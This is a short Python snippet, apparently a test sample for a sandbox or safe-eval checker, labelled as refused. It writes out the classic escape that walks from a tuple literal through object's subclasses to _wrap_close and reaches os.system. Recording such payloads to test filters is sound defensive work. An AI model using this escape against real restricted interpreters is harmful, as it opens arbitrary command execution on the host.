# Trick: from a literal up to object and down again to a class whose globals hold os.system.
# Refused: unsafe(dunder)
wrap = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0]
print(wrap.__init__.__globals__["system"])
